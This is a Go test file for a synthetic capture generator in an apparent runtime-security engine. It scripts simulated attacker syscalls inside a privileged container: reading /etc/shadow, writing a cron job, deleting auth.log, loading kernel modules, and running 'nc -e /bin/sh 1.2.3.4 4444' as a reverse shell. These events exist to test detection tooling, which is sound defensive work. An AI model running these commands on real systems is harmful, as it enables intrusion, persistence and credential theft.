package synth_test

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sakerhq/saker/engine/event"
	"github.com/sakerhq/saker/engine/scap"
	"github.com/sakerhq/saker/engine/synth"
)

// script plays one of every call the package offers.
func script() *synth.Capture {
	c := synth.New()
	c.StdUsers()
	ctr := synth.ContainerID("web")
	c.Container(synth.Container{ID: ctr, Name: "web", Image: "nginx:1.25", Privileged: true,
		Mounts: []synth.Mount{{Source: "/var/run/docker.sock", Dest: "/var/run/docker.sock", RW: true}}})
	init := c.Process(synth.Proc{Pid: 1, Exe: "/sbin/init", Comm: "systemd", NoLoginUID: true})
	shim := c.Process(synth.Proc{Pid: 900, Ppid: 1, Exe: "/usr/bin/containerd-shim-runc-v2", NoLoginUID: true})
	_ = init
	sh := shim.Spawn(synth.Proc{Pid: 1001, Exe: "/bin/bash", Args: []string{"-i"}, Tty: 34816, Container: ctr, Vpid: 7})
	fd := sh.Open("/etc/shadow", synth.ORdonly)
	sh.Read(fd, "root:*:19000::::::\n")
	sh.Close(fd)
	w := sh.Open("/etc/cron.d/job", synth.OWronly|synth.OCreat|synth.OTrunc)
	sh.Write(w, "* * * * * root true\n")
	sh.Close(w)
	sh.OpenFail("/root/.ssh/id_rsa", synth.ORdonly, 13)
	sh.Close(sh.SysOpen("/etc/passwd", synth.ORdonly))
	sh.Mkdir("/usr/bin/.hidden")
	sh.Mkdirat("/bin/x")
	sh.Unlink("/var/log/auth.log")
	sh.Rename("/tmp/a", "/tmp/b")
	sh.Symlink("/etc/shadow", "/tmp/s")
	sh.Link("/etc/shadow", "/tmp/h")
	sh.Chmod("/tmp/b", 0o4755)
	sh.Setuid(0)
	sh.Setns(3, synth.NsNet)
	sh.Ptrace(synth.PtraceAttach, 1)
	mfd := sh.MemfdCreate("x")
	sh.FinitModule(mfd, "")
	sh.InitModule("debug=1")
	ps := sh.Socket(synth.AFPacket, synth.SockRaw, 0)
	sh.Close(ps)
	s := sh.Dial(netip.MustParseAddrPort("10.96.0.1:443"))
	sh.Dup2(s, 0)
	sh.Exec("/usr/bin/nc", "-e", "/bin/sh", "1.2.3.4", "4444")
	sh.Exit()
	return c
}

// expected lists the events script emits, in order, by name and direction.
func expected() []string {
	pair := func(n string) []string { return []string{">" + n, "<" + n} }
	var out []string
	add := func(s ...string) { out = append(out, s...) }
	add(">container")
	add(">clone", "<clone", "<clone")
	add(pair("execve")...)
	for _, n := range []string{"openat", "read", "close", "openat", "write", "close", "openat", "open", "close", "mkdir", "mkdirat", "unlinkat",
		"renameat2", "symlinkat", "linkat", "fchmodat", "setuid", "setns", "ptrace", "memfd_create", "finit_module",
		"init_module", "socket", "close", "socket", "connect", "dup2", "execve"} {
		add(pair(n)...)
	}
	add(">procexit")
	return out
}

func readAll(t *testing.T, path string) (evs []string, procs []*scap.Process, users []*scap.User) {
	t.Helper()
	r, err := scap.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	var ev event.Event
	for {
		rec, err := r.Next()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		switch rec.Kind {
		case scap.KindProcess:
			procs = append(procs, rec.Proc)
		case scap.KindUser:
			users = append(users, rec.User)
		case scap.KindEvent:
			if err := ev.Decode(rec.Event); err != nil {
				t.Fatalf("offset %d: %v", rec.Offset, err)
			}
			info := ev.Info()
			if info == nil {
				t.Fatalf("offset %d: unknown type %d", rec.Offset, ev.Type())
			}
			if ev.NumParams() != len(info.Params) {
				t.Errorf("offset %d: %s has %d parameters, table lists %d", rec.Offset, info.Name, ev.NumParams(), len(info.Params))
			}
			if info.Flags&event.FlagOldVersion != 0 && !ev.Type().IsEnter() {
				t.Errorf("offset %d: %s exit (type %d) is not the newest version", rec.Offset, info.Name, ev.Type())
			}
			dir := "<"
			if ev.Type().IsEnter() {
				dir = ">"
			}
			evs = append(evs, dir+info.Name)
		}
	}
}

func TestScriptReadsBack(t *testing.T) {
	path := filepath.Join(t.TempDir(), "s.scap")
	if err := script().WriteFile(path); err != nil {
		t.Fatal(err)
	}
	evs, procs, users := readAll(t, path)
	if got, want := strings.Join(evs, " "), strings.Join(expected(), " "); got != want {
		t.Fatalf("events\n got %s\nwant %s", got, want)
	}
	if len(procs) != 2 || procs[1].Pid != 900 || procs[1].ExePath != "/usr/bin/containerd-shim-runc-v2" || procs[1].Comm != "containerd-shim" {
		t.Errorf("process list: %+v", procs)
	}
	if len(users) != 5 || users[4].Name != "bob" || users[4].UID != 1000 {
		t.Errorf("users: %+v", users)
	}
}

func TestErrorsAreReported(t *testing.T) {
	c := synth.New()
	c.Process(synth.Proc{Pid: 5, Exe: "/bin/sh"})
	c.Process(synth.Proc{Pid: 5, Exe: "/bin/sh"})
	if _, err := c.Bytes(); err == nil || !strings.Contains(err.Error(), "declared twice") {
		t.Errorf("duplicate pid: err = %v", err)
	}
	c = synth.New()
	p := c.Process(synth.Proc{Pid: 5, Exe: "/bin/sh"})
	p.Spawn(synth.Proc{Pid: 5, Exe: "/bin/ls"})
	if _, err := c.Bytes(); err == nil {
		t.Error("spawning an existing pid accepted")
	}
}

// TestSysdigReads checks the capture against Debian's sysdig 0.29, which
// knows every event type the script uses except those added after it
// (memfd_create, init_module, finit_module, dup2): it must read the file
// to the end and show the same events, processes and file names.
func TestSysdigReads(t *testing.T) {
	bin, err := exec.LookPath("sysdig")
	if err != nil {
		if os.Getenv("SAKER_REQUIRE_REFERENCE") == "1" {
			t.Fatalf("sysdig not installed: %v", err)
		}
		t.Skipf("sysdig not installed: %v", err)
	}
	path := filepath.Join(t.TempDir(), "s.scap")
	if err := script().WriteFile(path); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(bin, "-r", path, "-p", "*%evt.dir%evt.type %proc.name %proc.pid %user.name %fd.name %container.id").CombinedOutput()
	if err != nil {
		t.Fatalf("sysdig: %v\n%s", err, out)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	t.Logf("sysdig:\n%s", out)
	ctr := synth.ContainerID("web")[:12]
	for _, want := range []string{
		fmt.Sprintf("<openat bash 1001 root /etc/shadow %s", ctr),
		fmt.Sprintf("<write bash 1001 root /etc/cron.d/job %s", ctr),
		fmt.Sprintf("<connect bash 1001 root 172.17.0.2:40001->10.96.0.1:443 %s", ctr),
		fmt.Sprintf("<execve nc 1001 root <NA> %s", ctr),
		"<mkdir bash 1001 root",
		fmt.Sprintf("<open bash 1001 root /etc/passwd %s", ctr),
		"<symlinkat bash 1001 root",
		"<clone containerd-shim 900 root",
	} {
		found := false
		for _, l := range lines {
			if strings.HasPrefix(l, want) {
				found = true
			}
		}
		if !found {
			t.Errorf("sysdig output lacks a line starting %q", want)
		}
	}
	if !bytes.Contains(out, []byte(">procexit nc 1001")) {
		t.Errorf("sysdig did not read to the last event")
	}

	// What the exec and the container event tell about the process.
	out, err = exec.Command(bin, "-r", path, "-p", "*%proc.cmdline|%proc.exepath|%proc.tty|%proc.vpid|%proc.pname|%container.image|%container.privileged|%container.mounts",
		"evt.type=execve and evt.dir=< and proc.name=nc").CombinedOutput()
	if err != nil {
		t.Fatalf("sysdig: %v\n%s", err, out)
	}
	want := "nc -e /bin/sh 1.2.3.4 4444|/usr/bin/nc|34816|7|containerd-shim|nginx:1.25|true|/var/run/docker.sock:/var/run/docker.sock::true:rprivate"
	if got := strings.TrimSpace(string(out)); got != want {
		t.Errorf("sysdig sees the exec as\n%s\nwant\n%s", got, want)
	}
}

// The constants are encoded values; the event table's name lists are the
// reference for them.
func TestConstantsMatchTable(t *testing.T) {
	find := func(list []event.NameValue, name string) uint32 {
		for _, nv := range list {
			if nv.Name == name {
				return nv.Value
			}
		}
		t.Fatalf("%s not in table", name)
		return 0
	}
	for _, c := range []struct {
		got  uint32
		list []event.NameValue
		name string
	}{
		{synth.ORdonly, event.FileFlags, "O_RDONLY"},
		{synth.OWronly, event.FileFlags, "O_WRONLY"},
		{synth.ORdwr, event.FileFlags, "O_RDWR"},
		{synth.OCreat, event.FileFlags, "O_CREAT"},
		{synth.OAppend, event.FileFlags, "O_APPEND"},
		{synth.OTrunc, event.FileFlags, "O_TRUNC"},
		{synth.ODirectory, event.FileFlags, "O_DIRECTORY"},
		{synth.OCloexec, event.FileFlags, "O_CLOEXEC"},
		{synth.AFUnix, event.SocketFamilies, "AF_UNIX"},
		{synth.AFInet, event.SocketFamilies, "AF_INET"},
		{synth.AFInet6, event.SocketFamilies, "AF_INET6"},
		{synth.AFPacket, event.SocketFamilies, "AF_PACKET"},
		{synth.NsNet, event.CloneFlags, "CLONE_NEWNET"},
		{synth.NsMount, event.CloneFlags, "CLONE_NEWNS"},
		{synth.NsPid, event.CloneFlags, "CLONE_NEWPID"},
		{synth.PtraceTraceme, event.PtraceRequests, "PTRACE_TRACEME"},
		{synth.PtracePeekdata, event.PtraceRequests, "PTRACE_PEEKDATA"},
		{synth.PtracePoketext, event.PtraceRequests, "PTRACE_POKETEXT"},
		{synth.PtraceAttach, event.PtraceRequests, "PTRACE_ATTACH"},
		{synth.PtraceSeize, event.PtraceRequests, "PTRACE_SEIZE"},
	} {
		if want := find(c.list, c.name); c.got != want {
			t.Errorf("%s = %#x, table says %#x", c.name, c.got, want)
		}
	}
}
